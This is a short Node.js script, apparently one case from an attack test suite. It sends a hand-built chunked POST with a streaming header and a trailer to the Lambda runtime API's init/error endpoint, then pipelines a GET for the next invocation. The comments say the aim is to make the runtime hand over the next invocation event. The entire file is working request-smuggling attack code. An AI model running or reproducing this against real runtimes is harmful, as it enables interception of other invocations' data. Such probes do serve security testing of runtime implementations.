// class: lambda
// rule: runtime_api
// success: Node begins what looks like a streamed response, and takes the next event behind its
//   trailers
// proof: next
'use strict';
const net = require('net');
const { attempt, API } = require('./attack.js');
const HEAD = 'POST /2018-06-01/runtime/init/error HTTP/1.1\r\nHost: x\r\n'
    + 'Lambda-Runtime-Function-Response-Mode: streaming\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nA: b\r\n\r\n';
const NEXT = 'GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n';
attempt(() => new Promise((fine, bad) => {
    const out = net.connect(API, () => out.write(HEAD + NEXT));
    setTimeout(() => out.destroy(), 3000);
    out.on('error', bad);
    out.on('close', () => fine(false));
    out.on('data', () => fine(true));
}));
